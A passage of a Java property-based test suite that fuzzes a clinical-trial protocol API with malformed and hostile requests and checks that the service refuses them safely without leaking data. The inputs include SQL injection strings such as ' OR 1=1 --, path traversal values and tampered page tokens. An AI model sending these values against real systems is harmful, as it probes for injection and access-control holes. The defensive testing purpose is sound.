        BAD_SORT, BAD_FIELDS, LONG_Q, REPEATED_SINGLE, SPONSOR_FILTER_NOT_ALLOWED, NUL, GARBAGE_PAGE_TOKEN,
        TAMPERED_PAGE_TOKEN, PAGING_STATISTICS
    }

    private static final List<String> KNOWN_PARAMETERS = List.of("status", "conditionCategory", "phase", "overallStatus",
            "sponsorOrg", "hasErrors", "ruleId", "minInitialDoseMg", "maxInitialDoseMg", "updatedSince", "q", "sort",
            "pageSize", "pageToken", "countTotal", "fields");

    Arbitrary<HostileRequest> invalidQueries() {
        return Combinators.combine(Arbitraries.of(SEARCH_ENDPOINTS), Arbitraries.of(QueryFault.values()),
                Arbitraries.of(Caller.SPONSOR_A, Caller.SPONSOR_B, Caller.REVIEWER, Caller.VIEWER, Caller.ADMIN),
                hostileStrings(), Arbitraries.randoms())
                .as(this::invalidQuery);
    }

    private HostileRequest invalidQuery(Endpoint endpoint, QueryFault fault, Caller caller, String hostile,
            Random random) {
        var spec = base(endpoint, caller);
        if (random.nextBoolean()) {
            addValidFilters(spec, random, endpoint, caller);
        }
        var name = pick(random, List.of("status", "conditionCategory", "phase", "overallStatus"));
        switch (fault) {
            case UNKNOWN_NAME -> spec.param(KNOWN_PARAMETERS.contains(hostile.trim()) || hostile.isBlank()
                    ? "status;DROP" : hostile, "x");
            case BAD_CODE -> spec.param(name, hostile + "!");
            case BAD_BOOLEAN -> spec.param(pick(random, List.of("hasErrors", "countTotal")),
                    pick(random, List.of("TRUE", "1", "yes", "", "true'", hostile.equals("true") || hostile.equals("false")
                            ? "maybe" : hostile)));
            case BAD_RULE_ID -> spec.param("ruleId", hostile.matches("[A-Z]{2,5}-[0-9]{3}") ? hostile + "'" : hostile);
            case BAD_DOSE -> spec.param(pick(random, List.of("minInitialDoseMg", "maxInitialDoseMg")),
                    pick(random, List.of("1e999999", "9".repeat(400), "NaN", "Infinity", "", "1,5", "0x10", "120mg",
                            "' OR 1=1 --", "1e-31", "1" + "0".repeat(31))));
            case DOSE_RANGE_INVERTED -> spec.param("minInitialDoseMg", "120").param("maxInitialDoseMg", "119.999");
            case BAD_TIME -> spec.param("updatedSince", pick(random, List.of("yesterday", "2026-13-01T00:00:00Z",
                    "2026-11-26", "1e999999", "' OR 1=1 --", "2026-11-26T25:00:00Z", "+999999999-12-31T23:59:59Z0")));
            case BAD_PAGE_SIZE -> spec.param("pageSize", pick(random, List.of("0", "-1", "201", "1e999999",
                    "9".repeat(400), "abc", "", "2.5", "0x10", "2147483648")));
            case BAD_SORT -> spec.param("sort", pick(random, List.of("title", "updatedAt:sideways", "updatedAt;DROP",
                    "briefTitle:asc,id", "updatedAt:asc:desc", "p.brief_title", "1", "", "(SELECT 1)",
                    "updatedAt:ASC", hostile.matches("(updatedAt|createdAt|initialDoseMg|briefTitle)(:asc|:desc)?")
                            ? "x" : hostile)));
            case BAD_FIELDS -> spec.param("fields", pick(random, List.of("id,secret", "*", "id,,status",
                    "document/registration", "../validation", "' OR 1=1 --", "id," + hostile.replace(",", "") + "x")));
            case LONG_Q -> spec.param("q", "q".repeat(201 + random.nextInt(600)));
            case REPEATED_SINGLE -> {
                var single = pick(random, List.of("q", "overallStatus", "hasErrors", "ruleId", "sort", "pageSize"));
                var value = switch (single) {
                    case "overallStatus" -> "RECRUITING";
                    case "hasErrors" -> "true";
                    case "ruleId" -> "DOSE-003";
                    case "sort" -> "createdAt";
                    case "pageSize" -> "5";
                    default -> "pain";
                };
                // overallStatus is a code list that must hold one value: the same code twice is one value.
                spec.param(single, value).param(single, single.equals("overallStatus") ? "NOT_YET_RECRUITING" : value);
            }
            case SPONSOR_FILTER_NOT_ALLOWED -> {
                spec.headers.put("Authorization", fixture.bearer(random.nextBoolean() ? Caller.SPONSOR_A : Caller.VIEWER));
                spec.param("sponsorOrg", random.nextBoolean() ? fixture.orgB : hostile);
            }
            case NUL -> spec.param(pick(random, List.of("q", "sponsorOrg", "ruleId", "status", "sort", "fields",
                    "pageToken", "x")), pick(random, List.of("\u0000", "a\u0000b", hostile + "\u0000")));
            case GARBAGE_PAGE_TOKEN -> spec.param("pageToken", pick(random, List.of("not-a-token", "", "====",
                    Base64.getUrlEncoder().encodeToString("null".getBytes(StandardCharsets.UTF_8)),
                    Base64.getUrlEncoder().encodeToString("[]".getBytes(StandardCharsets.UTF_8)),
                    Base64.getUrlEncoder().encodeToString("42".getBytes(StandardCharsets.UTF_8)),
                    Base64.getUrlEncoder().encodeToString(("[".repeat(10_000) + "]".repeat(10_000))
                            .getBytes(StandardCharsets.UTF_8)).substring(0, 3000),
                    Base64.getUrlEncoder().encodeToString(hostile.getBytes(StandardCharsets.UTF_8)), hostile)));
            case TAMPERED_PAGE_TOKEN -> tamperedToken(spec, random, hostile, false);
            case PAGING_STATISTICS -> spec.param(pick(random, endpoint == Endpoint.STATS
                    ? List.of("sort", "pageSize", "pageToken", "countTotal", "fields")
                    : List.of("sort", "pageToken", "countTotal", "fields")), "1");
            default -> throw new IllegalStateException(fault.name());
        }
        return request("invalid query", fault.name(), spec, refused(400), random);
    }

    /** A real next-page token of sponsor A, decoded, edited and encoded again. */
    private void tamperedToken(Spec spec, Random random, String hostile, boolean onlyHarmlessEdits) {
        var sort = pick(random, List.copyOf(fixture.pageTokens.keySet()));
        spec.query.clear();
        spec.headers.put("Authorization", fixture.bearer(Caller.SPONSOR_A));
        spec.param("sort", sort).param("pageSize", String.valueOf(1 + random.nextInt(5)));
        var token = (ObjectNode) ProtocolApi.json(Base64.getUrlDecoder().decode(fixture.pageTokens.get(sort)));
        if (onlyHarmlessEdits) {
            if (sort.startsWith("briefTitle")) {
                token.put("sortValue", hostile.replace("\u0000", "").length() > 300 ? "x" : hostile.replace("\u0000", ""));
            }
        } else {
            switch (random.nextInt(7)) {
                case 0 -> token.put("id", hostile.matches("[0-9a-f-]{36}") ? hostile + "x" : hostile);
                case 1 -> token.put("sortValue", sort.startsWith("briefTitle") ? hostile + "\u0000"
                        : pick(random, List.of("yesterday", "NaN", "Infinity", "1e999999", "' OR 1=1 --", "")));
                case 2 -> token.put("queryFingerprint", hostile);
                case 3 -> token.put("extra", "member");
                case 4 -> token.putArray("sortValue").add(1);
                case 5 -> token.remove("id");
                default -> token.putNull("sortValue");
            }
        }
        spec.param("pageToken", Base64.getUrlEncoder().withoutPadding().encodeToString(bytes(token)));
    }

    /** Filters that are valid for every caller (sponsorOrg only for reviewers and admins). */
    private void addValidFilters(Spec spec, Random random, Endpoint endpoint, Caller caller) {
        if (random.nextBoolean()) {
            spec.param("status", pick(random, List.of("DRAFT", "SUBMITTED,APPROVED", "APPROVED", "WITHDRAWN")));
        }
        if (random.nextInt(3) == 0) {
            spec.param("phase", pick(random, List.of("PHASE_2", "PHASE_1,PHASE_3")));
        }
        if (random.nextInt(3) == 0) {
            spec.param("hasErrors", random.nextBoolean() ? "true" : "false");
        }
        if (random.nextInt(4) == 0) {
            spec.param("minInitialDoseMg", "0").param("maxInitialDoseMg", pick(random, List.of("125", "1e10", "-0")));
        }
        if (random.nextInt(4) == 0) {
            spec.param("ruleId", pick(random, List.of("DOSE-010", "ZZZZ-999", "SUP-001")));
        }
        if (random.nextInt(4) == 0) {
            spec.param("updatedSince", pick(random, List.of("2000-01-01T00:00:00Z", "2999-01-01T00:00:00Z")));
        }
        if ((caller == Caller.REVIEWER || caller == Caller.ADMIN) && random.nextInt(3) == 0
                && spec.query.stream().noneMatch(pair -> pair.startsWith("sponsorOrg="))) {
            spec.param("sponsorOrg", random.nextBoolean() ? fixture.orgA : fixture.orgB);
        }
        if (endpoint != Endpoint.STATS) {
            if (random.nextBoolean()) {
                spec.param("sort", pick(random, List.of("briefTitle", "initialDoseMg:desc", "createdAt:asc")));
            }
            if (random.nextBoolean()) {
                spec.param("pageSize", String.valueOf(1 + random.nextInt(200)));
            }
            if (random.nextInt(3) == 0) {
                spec.param("countTotal", "true");
            }
            if (random.nextInt(3) == 0) {
                spec.param("fields", pick(random, List.of("id", "id,sponsorOrg,status", "id,registration,validation")));
            }
        }
    }

    // ---- hostile but valid queries -------------------------------------------------------

    Arbitrary<HostileRequest> hostileButValidQueries() {
        var texts = Arbitraries.oneOf(hostileStrings(),
                Arbitraries.of(INJECTIONS).map(injection -> HostileFixture.SHARED_WORD + " " + injection),
                Arbitraries.of(RAW_PERCENT))
                .map(text -> text.replace("\u0000", ""))
                .filter(text -> !text.isEmpty() && text.length() <= 200);
        return Combinators.combine(Arbitraries.of(SEARCH_ENDPOINTS),
                Arbitraries.of(Caller.SPONSOR_A, Caller.SPONSOR_B, Caller.REVIEWER, Caller.VIEWER, Caller.ADMIN),
                texts, Arbitraries.randoms())
                .as((endpoint, caller, text, random) -> {
                    var spec = base(endpoint, caller);
                    var fault = "q";
                    if (RAW_PERCENT.contains(text)) {
                        spec.query.add("q=" + text); // raw percent sequences that are not UTF-8 once decoded
                        fault = "q with bytes that are not UTF-8";
                    } else if ((caller == Caller.REVIEWER || caller == Caller.ADMIN) && random.nextInt(3) == 0) {
                        spec.param("sponsorOrg", text);
                        fault = "sponsorOrg";
                    } else if (endpoint != Endpoint.STATS && random.nextInt(5) == 0) {
                        tamperedToken(spec, random, text, true);
                        return request("hostile but valid query", "edited title token", spec,
                                new Harmless(response -> visibleOnly(endpoint, Caller.SPONSOR_A, response, null)),
                                random);
                    } else {
                        spec.param("q", text);
                    }
                    if (random.nextBoolean()) {
                        addValidFilters(spec, random, endpoint, caller);
                    }
                    if (random.nextInt(4) == 0) {
                        spec.header("If-None-Match", pick(random, List.of("\"garbage\"", "W/\"x\"", "' OR 1=1 --")));
                    }
                    var sponsorFilter = fault.equals("sponsorOrg") ? text : null;
                    return request("hostile but valid query", fault, spec,
                            new Harmless(response -> visibleOnly(endpoint, caller, response, sponsorFilter)), random);
                });
    }

    /** Only protocols the caller may see, only of the organisation filtered on, formulas neutralised. */
    private void visibleOnly(Endpoint endpoint, Caller caller, RawHttp.Response response, String sponsorFilter)
            throws IOException {
        var allowed = fixture.visible.get(caller);
        var seen = new ArrayList<String>();
        switch (endpoint) {
            case SEARCH -> {
                var page = ProtocolApi.json(response.body());
                for (var item : page.get("items")) {
                    seen.add(item.get("id").asText());
                    if (item.has("sponsorOrg") && sponsorFilter != null) {
                        assertThat(item.get("sponsorOrg").asText()).isEqualTo(sponsorFilter);
                    }
                }
            }
            case EXPORT_NDJSON -> {
                for (var line : response.text().split("\n")) {
                    if (!line.isBlank()) {
                        seen.add(ProtocolApi.json(line).get("id").asText());
                    }
                }
            }
            case EXPORT_CSV -> {
                var csv = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
                try (var rows = csv.readerFor(List.class).<List<String>>readValues(response.body())) {
                    var header = rows.next();
                    assertThat(header.get(0)).isEqualTo("id");
                    while (rows.hasNext()) {
                        var row = rows.next();
                        seen.add(row.get(0));
                        for (var column : List.of(1, 4, 5, 8)) {
                            assertThat(row.get(column)).as("CSV cell %s of %s", column, row.get(0))
                                    .doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                                    .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
                        }
                    }
                }
            }
            case STATS -> assertThat(ProtocolApi.json(response.body()).get("total").asLong())
                    .isLessThanOrEqualTo(allowed.size());
            default -> throw new IllegalStateException(endpoint.name());
        }
        assertThat(allowed).as("ids %s may see", caller).containsAll(seen);
        if (caller == Caller.SPONSOR_A || caller == Caller.SPONSOR_B) {
            assertThat(seen).doesNotContainAnyElementsOf(fixture.visible.get(caller == Caller.SPONSOR_A
                    ? Caller.SPONSOR_B : Caller.SPONSOR_A));
        }
    }

    // ---- If-Match -------------------------------------------------------------------------

    Arbitrary<HostileRequest> stalePreconditions() {
        var steps = Map.of(Endpoint.REPLACE, Target.SUBMITTABLE_DRAFT, Endpoint.SUBMIT, Target.SUBMITTABLE_DRAFT,
                Endpoint.WITHDRAW, Target.SUBMITTABLE_DRAFT, Endpoint.AMEND, Target.APPROVED,
                Endpoint.REVIEW, Target.SUBMITTED);
        var values = Arbitraries.oneOf(hostileStrings(), Arbitraries.strings().withCharRange('!', '~')
                .ofMinLength(1).ofMaxLength(60), Arbitraries.strings().withCharRange('\u00A0', '\u00FF')
                .ofMinLength(1).ofMaxLength(20), Arbitraries.of("W/\"1.0\"", "\"1.0\"", "1.0", "\"2.1\"", "\"*\"",
                "\"\"", "\"1.0\" \"2.0\"", "\"a\", \"b\"", "x".repeat(8000), "\"1.0\"x", "%00", "\\u0000"))
                .map(value -> value.replaceAll("[\\x00-\\x1f\\x7f]", "_"));
        return Combinators.combine(Arbitraries.of(List.copyOf(steps.keySet())), values, Arbitraries.randoms())
                .as((endpoint, generated, random) -> {
                    var value = matchesCurrent(generated, fixture.etags.get(steps.get(endpoint))) ? "\"stale\""
                            : generated;
                    var spec = base(endpoint, allowedCaller(endpoint));
                    if (endpoint == Endpoint.REPLACE && random.nextInt(6) == 0) {
                        var missing = random.nextBoolean();
                        spec.header("If-Match", missing ? null : " ");
                        return request("stale If-Match", missing ? "missing" : "blank", spec, refused(428), random);
                    }
                    spec.header("If-Match", value);
                    return request("stale If-Match", "stale or garbage", spec, refused(412), random);
                });
    }

    /** As the service compares: a comma-separated list, "*" or the exact tag. */
    private static boolean matchesCurrent(String ifMatch, String current) {
        for (var candidate : ifMatch.split(",")) {
            var tag = candidate.strip();
            if (tag.equals("*") || tag.equals(current) || tag.isEmpty()) {
                return true;
            }
        }
        return ifMatch.isBlank();
    }

    // ---- media types ---------------------------------------------------------------------

    Arbitrary<HostileRequest> wrongMediaTypes() {
        var contentTypes = List.of("text/plain", "application/xml", "text/html; charset=utf-8",
                "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/octet-stream",
                "application/jsonx", "application/json-patch+json", "image/png", "application/problem+json",
                "text/csv");
        var accepts = List.of("application/xml", "text/html", "image/png", "application/pdf", "text/xml",
                "application/vnd.ms-excel");
        var malformed = List.of("garbage", "/", "application/", ";;;", "a/b/c");
        var contentType = Combinators.combine(Arbitraries.of(BODY_ENDPOINTS),
                Arbitraries.of(concat(contentTypes, malformed)), Arbitraries.randoms())
                .as((endpoint, type, random) -> request("wrong media type", "Content-Type " + type,
                        base(endpoint, allowedCaller(endpoint)).header("Content-Type", type),
                        malformed.contains(type) ? refused(400, 415) : refused(415), random));
        var accept = Combinators.combine(Arbitraries.of(Endpoint.values()), Arbitraries.of(concat(accepts, malformed)),
                Arbitraries.randoms())
                .as((endpoint, type, random) -> request("wrong media type", "Accept " + type,
                        base(endpoint, allowedCaller(endpoint)).header("Accept", type),
                        malformed.contains(type) ? refused(400, 406) : refused(406), random));
        return Arbitraries.oneOf(contentType, accept);
    }

    // ---- methods and states --------------------------------------------------------------

    Arbitrary<HostileRequest> wrongMethods() {
        var id = protocol(Target.SUBMITTABLE_DRAFT);
        var cases = List.of(
                Tuple.of(Endpoint.READ, "DELETE", id), Tuple.of(Endpoint.READ, "PATCH", id),
                Tuple.of(Endpoint.READ, "POST", id), Tuple.of(Endpoint.SEARCH, "DELETE", PROTOCOLS),
                Tuple.of(Endpoint.SEARCH, "PUT", PROTOCOLS), Tuple.of(Endpoint.SEARCH, "PATCH", PROTOCOLS),
                Tuple.of(Endpoint.VERSIONS, "POST", id + "/versions"),
                Tuple.of(Endpoint.VERSIONS, "DELETE", id + "/versions"),
                Tuple.of(Endpoint.VERSION, "PUT", id + "/versions/1"),
                Tuple.of(Endpoint.SUBMIT, "GET", id + "/submit"), Tuple.of(Endpoint.SUBMIT, "PUT", id + "/submit"),
                Tuple.of(Endpoint.WITHDRAW, "DELETE", id + "/withdraw"),
                Tuple.of(Endpoint.AMEND, "GET", id + "/amendments"),
                Tuple.of(Endpoint.REVIEW, "PUT", id + "/reviews"), Tuple.of(Endpoint.REVIEW, "DELETE", id + "/reviews"),
                Tuple.of(Endpoint.VALIDATE, "GET", "/api/v1/validate"),
                Tuple.of(Endpoint.VALIDATE, "PUT", "/api/v1/validate"),
                Tuple.of(Endpoint.STATS, "POST", "/api/v1/stats"),
                Tuple.of(Endpoint.AUDIT, "POST", "/api/v1/audit/verify"),
                Tuple.of(Endpoint.AUDIT, "DELETE", "/api/v1/audit/verify"),
                Tuple.of(Endpoint.RULES, "POST", "/api/v1/rules"),
                Tuple.of(Endpoint.RULE, "DELETE", "/api/v1/rules/DOSE-003"),
                Tuple.of(Endpoint.HISTORY, "POST", id + "/history"),
                Tuple.of(Endpoint.HISTORY, "DELETE", id + "/history"),
                Tuple.of(Endpoint.FHIR, "POST", id + "/fhir"),
                Tuple.of(Endpoint.REVALIDATE, "GET", id + "/versions/1/revalidate"),
                Tuple.of(Endpoint.DIFF, "POST", id + "/versions/1/diff/1"),
                Tuple.of(Endpoint.READ, "FOO", id), Tuple.of(Endpoint.READ, "PROPFIND", id),
                Tuple.of(Endpoint.SEARCH, "TRACE", PROTOCOLS));
        return Combinators.combine(Arbitraries.of(cases), Arbitraries.randoms()).as((tuple, random) -> {
            var spec = base(tuple.get1(), Caller.ADMIN);
            spec.method = tuple.get2();
            spec.path = tuple.get3();
            spec.query.clear();
            if (random.nextBoolean()) {
                spec.json(changedDocument());
            }
            return request("wrong method", tuple.get2(), spec, refused(405), random);
        });
    }

    Arbitrary<HostileRequest> wrongStates() {
        var cases = List.of(
                Tuple.of(Endpoint.SUBMIT, Target.SUBMITTED, 409), Tuple.of(Endpoint.SUBMIT, Target.APPROVED, 409),
                Tuple.of(Endpoint.SUBMIT, Target.WITHDRAWN, 409), Tuple.of(Endpoint.SUBMIT, Target.DRAFT_WITH_ERRORS, 422),
                Tuple.of(Endpoint.WITHDRAW, Target.WITHDRAWN, 409), Tuple.of(Endpoint.AMEND, Target.SUBMITTABLE_DRAFT, 409),
                Tuple.of(Endpoint.AMEND, Target.SUBMITTED, 409), Tuple.of(Endpoint.AMEND, Target.WITHDRAWN, 409),
                Tuple.of(Endpoint.REVIEW, Target.APPROVED, 409), Tuple.of(Endpoint.REVIEW, Target.WITHDRAWN, 409),
                Tuple.of(Endpoint.REPLACE, Target.SUBMITTED, 409), Tuple.of(Endpoint.REPLACE, Target.APPROVED, 409),
                Tuple.of(Endpoint.REPLACE, Target.WITHDRAWN, 409));
        return Combinators.combine(Arbitraries.of(cases), Arbitraries.randoms()).as((tuple, random) -> {
            var endpoint = tuple.get1();
            var spec = base(endpoint, allowedCaller(endpoint));
            spec.path = spec.path.replace(fixture.id(PROTOCOL_ENDPOINTS.get(endpoint)), fixture.id(tuple.get2()));
            if (endpoint == Endpoint.REPLACE) {
                spec.header("If-Match", fixture.etags.get(tuple.get2()));
            }
            return request("wrong state", tuple.get2().name(), spec, refused(tuple.get3()), random);
        });
    }

    // ---- refused by the HTTP server --------------------------------------------------------

    Arbitrary<HostileRequest> refusedByTheHttpServer() {
        var malformedTargets = List.of("%zz", "%", "%4", "%G0", "|", "^", "{x}", "\"", "<x>", "\\", "`", "%%30");
        var endpoints = Arbitraries.of(Endpoint.values());
        var notAUri = Combinators.combine(endpoints, Arbitraries.of(malformedTargets), Arbitraries.randoms())
                .as((endpoint, junk, random) -> {
                    var spec = base(endpoint, allowedCaller(endpoint));
                    if (random.nextBoolean()) {
                        spec.path = spec.path + junk;
                    } else {
                        spec.query.add("q=" + junk);
                    }
                    return new HostileRequest("refused by the HTTP server", endpoint, "not a URI: " + junk,
                            spec.build(), new RefusedByHttpServer(400));
                });
        var longLine = Combinators.combine(endpoints, Arbitraries.integers().between(4_100, 20_000)).as((endpoint, n) -> {
            var spec = base(endpoint, allowedCaller(endpoint));
            spec.query.add("q=" + "a".repeat(n));
            return new HostileRequest("refused by the HTTP server", endpoint, "request line of " + n + " characters",
                    spec.build(), new RefusedByHttpServer(414));
        });
        var bigHeaders = Combinators.combine(endpoints, Arbitraries.of("If-Match", "X-Request-Id", "Authorization",
                "Cookie"), Arbitraries.integers().between(21_000, 64_000)).as((endpoint, header, n) -> {
                    var spec = base(endpoint, allowedCaller(endpoint)).header(header, "b".repeat(n));
                    return new HostileRequest("refused by the HTTP server", endpoint, header + " of " + n + " bytes",
                            spec.build(), new RefusedByHttpServer(431));
                });
        return Arbitraries.oneOf(notAUri, longLine, bigHeaders);
    }

    // ---- harmless reads ------------------------------------------------------------------

    Arbitrary<HostileRequest> harmlessReads() {
        var reads = List.of(Endpoint.READ, Endpoint.VERSIONS, Endpoint.VERSION, Endpoint.HISTORY, Endpoint.LIST_REVIEWS,
                Endpoint.AUDIT, Endpoint.RULES, Endpoint.RULE, Endpoint.FHIR, Endpoint.DIFF, Endpoint.REVALIDATE);
        return Combinators.combine(Arbitraries.of(reads), Arbitraries.of(Target.values()), hostileStrings(),
                Arbitraries.randoms()).as((endpoint, target, junk, random) -> {
                    var spec = base(endpoint, Caller.ADMIN);
                    var id = fixture.id(target);
                    if (PROTOCOL_ENDPOINTS.containsKey(endpoint)) {
                        spec.path = spec.path.replace(fixture.id(PROTOCOL_ENDPOINTS.get(endpoint)), id);
                    }
                    spec.param(junk.replace("\u0000", "").isBlank() ? "junk" : junk.replace("\u0000", ""),
                            junk.replace("\u0000", ""));
                    if (random.nextBoolean()) {
                        spec.header("If-None-Match", pick(random, List.of("\"garbage\"", "W/\"1.0\"", "' OR 1=1 --")));
                    }
                    spec.header("Accept", pick(random, List.of("*/*", "application/json, */*;q=0.1",
                            "application/*", "application/json;q=abc")));
                    return request("harmless read", "junk parameters and headers", spec,
                            new Harmless(response -> unchanged(endpoint, id, response)), random);
                });
    }

    /** The answer equals what the snapshot taken before the hostile requests holds. */
    private void unchanged(Endpoint endpoint, String id, RawHttp.Response response) {
        var before = snapshot.get();
        var body = ProtocolApi.json(response.body());
        switch (endpoint) {
            case READ -> assertThat(body).isEqualTo(before.envelopes().get(id));
            case VERSIONS -> assertThat(body).isEqualTo(before.versions().get(id));
            case HISTORY -> assertThat(body).isEqualTo(before.histories().get(id));
            case LIST_REVIEWS -> assertThat(body).isEqualTo(before.reviews().get(id));
            case AUDIT -> assertThat(body).isEqualTo(before.auditVerification());
            case VERSION -> assertThat(body.get("document")).isEqualTo(before.envelopes().get(id).get("document"));
            case DIFF -> assertThat(body.isArray() && body.isEmpty()).isTrue();
            case RULES -> assertThat(body.get("items").size()).isPositive();
            case RULE -> assertThat(body.get("id").asText()).isEqualTo("DOSE-003");
            case FHIR -> assertThat(body.get("resourceType").asText()).isEqualTo("ResearchStudy");
            case REVALIDATE -> assertThat(body.isObject()).isTrue();
            default -> throw new IllegalStateException(endpoint.name());
        }
    }

    // ---- checking an answer --------------------------------------------------------------

    /** Never 5xx; the expected status; problem+json for refusals; no internals; the request id handled. */
    static void check(HostileRequest request, RawHttp.Response response) throws Exception {
        assertThat(response.status()).as("never a server error").isLessThan(500);
        var expectation = request.expectation();
        if (expectation instanceof Refused refused) {
            assertThat(refused.statuses()).as("status").contains(response.status());
            assertProblem(response);
            assertRequestId(request, response);
        } else if (expectation instanceof RefusedByHttpServer byServer) {
            assertThat(response.status()).as("status").isEqualTo(byServer.status());
            if (response.body().length > 0) {
                assertProblem(response);
            }
        } else if (expectation instanceof Harmless harmless) {
            assertThat(response.status()).as("status of a valid request").isEqualTo(200);
            harmless.check().verify(response);
            assertRequestId(request, response);
        }
    }

    private static void assertProblem(RawHttp.Response response) {
        assertThat(response.header("Content-Type")).startsWith(ProblemResponses.PROBLEM_JSON);
        var problem = ProtocolApi.json(response.body());
        assertThat(problem.isObject()).isTrue();
        assertThat(problem.get("status").asInt()).isEqualTo(response.status());
        assertThat(problem.get("title").asText()).isNotBlank();
        assertThat(LEAK.matcher(response.text()).find()).as("internals in %s", response.text()).isFalse();
    }

    private static void assertRequestId(HostileRequest request, RawHttp.Response response) {
        // The server drops the white space around a header value, as HTTP says.
        var sent = request.raw().headers().stream().filter(header -> header.name().equals("X-Request-Id"))
                .map(header -> header.value().strip()).findFirst();
        var answered = response.header("X-Request-Id");
        if (sent.isPresent() && SANE_REQUEST_ID.matcher(sent.get()).matches()) {
            assertThat(answered).isEqualTo(sent.get());
        } else {
            assertThat(answered).matches(UUID);
        }
    }

    // ---- small helpers -------------------------------------------------------------------

    private static byte[] bytes(JsonNode node) {
        try {
            return ProtocolApi.EXACT_JSON.writeValueAsBytes(node);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static <T> T pick(Random random, List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    private static <T> List<T> concat(List<T> a, List<T> b) {
        var all = new ArrayList<>(a);
        all.addAll(b);
        return all;
    }

    private static byte[] concat(byte[] a, byte[] b) {
        var all = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }

    private static int lastIndexOf(byte[] data, byte value) {
        for (int i = data.length - 1; i >= 0; i--) {
            if (data[i] == value) {
                return i;
            }
        }
        return -1;
    }

    private static int indexOf(byte[] data, byte[] pattern) {
        outer:
        for (int i = 0; i <= data.length - pattern.length; i++) {
            for (int j = 0; j < pattern.length; j++) {
                if (data[i + j] != pattern[j]) {
                    continue outer;
                }
            }
            return i;
        }
        return -1;
    }

    static String shorten(String text, int max) {
        return text.length() <= max ? text : text.substring(0, max) + "… (" + text.length() + " characters)";
    }
}
